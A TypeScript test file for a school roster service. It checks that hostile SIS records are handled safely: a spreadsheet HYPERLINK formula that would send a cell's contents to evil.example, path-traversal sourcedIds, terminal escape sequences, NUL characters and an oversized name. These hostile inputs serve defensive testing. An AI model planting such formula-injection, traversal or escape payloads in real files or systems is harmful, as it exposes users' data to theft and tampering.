import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { XMLValidator } from 'fast-xml-parser';
import { readSisSettings } from '../../src/config/sis-settings';
import { exportSchool } from '../../src/roster/export-school';
import { SILENT_PROGRESS } from '../../src/roster/progress';
import { syncSchool } from '../../src/sis/sync-school';
import { describeEachEngine } from '../support/engines';
import { callJson } from '../support/json-calls';
import { OneRosterProvider, schoolOf } from '../support/oneroster-provider';
import { type BundleRows, smallSchool, writeBundle } from '../support/roster-bundle';
import { importBundle, problemsOf, schoolIsEmpty } from '../support/roster-import';
import { startTestService } from '../support/service';
import { NS, soap11 } from '../support/soap';
import { openTestStore } from '../support/stores';
import { SYNC_TEST_OPTIONS } from '../support/sync-options';

/**
 * SIS records written to do harm, through the import and the sync, then export and the wire: a
 * spreadsheet formula as a name, sourcedIds that look like paths, control characters (a terminal
 * escape, a NUL) and a megabyte-long name.
 */
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const PATH_IDS = ['../../etc/s2', 'a/b'];

/** The small school with `change` made to student s1's row. */
function schoolWith(change: (s1: Record<string, string>) => void): BundleRows {
  const rows = smallSchool();
  change(rows.users.find((user) => user.sourcedId === 's1') as Record<string, string>);
  return rows;
}

/** The small school with s2 and s3 under sourcedIds that look like paths, everywhere they are named. */
function pathLikeIds(rows: BundleRows): BundleRows {
  ['s2', 's3'].forEach((old, index) => {
    for (const list of Object.values(rows)) {
      for (const row of list) for (const key of Object.keys(row)) if (row[key] === old) row[key] = PATH_IDS[index];
    }
  });
  return rows;
}

describeEachEngine('hostile SIS records', (engine) => {
  const folders: string[] = [];
  const folder = () => {
    const made = mkdtempSync(join(tmpdir(), 'hostile-records-'));
    folders.push(made);
    return made;
  };
  afterAll(() => {
    for (const made of folders) rmSync(made, { recursive: true, force: true });
  });

  test('a formula name, path-like sourcedIds are data: exported as written, in the bundle, on the wire', async () => {
    const settings = engine.freshStoreSettings();
    const store = await openTestStore(settings);
    let studentId: number;
    try {
      const rows = pathLikeIds(schoolWith((s1) => Object.assign(s1, { givenName: FORMULA })));
      expect(problemsOf(await importBundle(store, writeBundle(rows)))).toEqual([]);
      const out = folder();
      await exportSchool(store, join(out, 'school'), SILENT_PROGRESS);
      // Every file is in the bundle's folder, none named by a record.
      expect(readdirSync(out)).toEqual(['school']);
      expect(readdirSync(join(out, 'school')).every((name) => /^\w+\.csv$/.test(name))).toBe(true);
      const users = readFileSync(join(out, 'school', 'users.csv'), 'utf8');
      for (const id of PATH_IDS) expect(users).toContain(`\r\n${id},`);
      expect(users).toContain(`"${FORMULA.replaceAll('"', '""')}"`);
      const s1 = await store.db
        .selectFrom('roster_ids')
        .select('id')
        .where('kind', '=', 'students')
        .where('sourced_id', '=', 's1')
        .executeTakeFirstOrThrow();
      studentId = s1.id;
    } finally {
      await store.close();
    }
    const service = await startTestService({ ...settings, CONTRACT: 'typed' });
    try {
      const path = '/GetStudentsInformation.asmx';
      const soap = await soap11(
        `${service.url}${path}`,
        `<GetStudentInfoById xmlns="${NS}"><StudentId>${studentId}</StudentId></GetStudentInfoById>`,
        `"${NS}GetStudentInfoById"`,
      );
      expect(XMLValidator.validate(soap.text)).toBe(true);
      expect(soap.text).toContain(FORMULA.replaceAll('&', '&amp;'));
      const json = await callJson(service.url, path, 'GetStudentInfoById', { StudentId: String(studentId) });
      expect(String((json.body.d as Record<string, unknown>).NameEn)).toContain(FORMULA);
    } finally {
      await service.close();
    }
  });

  test.each([
    ['a terminal escape', 'Esc\u001b[31mRed', '001B'],
    ['a NUL', 'Nul\u0000l', '0000'],
    ['U+FFFE', 'Not\ufffechar', 'FFFE'],
  ])('a name with %s is refused by the import, named at its cell; nothing is written', async (_, name, code) => {
    const store = await openTestStore(engine.freshStoreSettings());
    try {
      const outcome = await importBundle(
        store,
        writeBundle(schoolWith((s1) => Object.assign(s1, { familyName: name }))),
      );
      const [problem, ...dependants] = problemsOf(outcome);
      expect(problem).toEqual(
        expect.objectContaining({
          file: 'users.csv',
          line: 2,
          rule: 'bad-character',
          message: `familyName holds the control character U+${code}, which no answer can carry`,
        }),
      );
      // The rest are the student's rows elsewhere, left out with it.
      expect(dependants.map((dependant) => dependant.rule)).toEqual(dependants.map(() => 'depends-on-invalid'));
      expect(await schoolIsEmpty(store)).toBe(true);
    } finally {
      await store.close();
    }
  });

  test('a name with a terminal escape from the SIS fails the sync, which writes nothing', async () => {
    const store = await openTestStore(engine.freshStoreSettings());
    const rows = schoolWith((s1) => Object.assign(s1, { familyName: 'Esc\u001b]0;owned\u0007' }));
    const provider = new OneRosterProvider(schoolOf(rows, '1.1'));
    await provider.start();
    try {
      const sync = await syncSchool(
        store,
        readSisSettings({ ...provider.settings('1.1'), SIS_PAGE_SIZE: '4' }),
        SYNC_TEST_OPTIONS,
      );
      expect(sync.outcome).toBe('nothing-written');
      expect(sync.imported?.problems.list().problems[0]).toEqual(
        expect.objectContaining({ file: 'users.csv', rule: 'bad-character' }),
      );
      expect(await schoolIsEmpty(store)).toBe(true);
    } finally {
      await provider.close();
      await store.close();
    }
  });

  test('a name of a megabyte is refused as a file that cannot be read; nothing is written', async () => {
    const store = await openTestStore(engine.freshStoreSettings());
    try {
      const rows = schoolWith((s1) => Object.assign(s1, { familyName: 'x'.repeat(1_000_000) }));
      const problems = problemsOf(await importBundle(store, writeBundle(rows)));
      expect(problems).toContainEqual(expect.objectContaining({ file: 'users.csv', rule: 'bad-file' }));
      expect(await schoolIsEmpty(store)).toBe(true);
    } finally {
      await store.close();
    }
  });
});
